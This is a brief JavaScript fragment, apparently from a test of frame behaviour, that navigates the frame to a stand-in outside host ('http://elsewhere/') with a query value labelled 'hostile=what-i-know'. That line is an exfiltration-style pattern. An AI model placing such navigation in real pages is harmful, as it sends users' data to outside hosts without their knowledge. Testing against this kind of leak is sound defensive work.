// The frame itself goes to another host, with what it knows.
setTimeout(() => { location.href = "http://elsewhere/?hostile=what-i-know"; }, 0);
return "going";
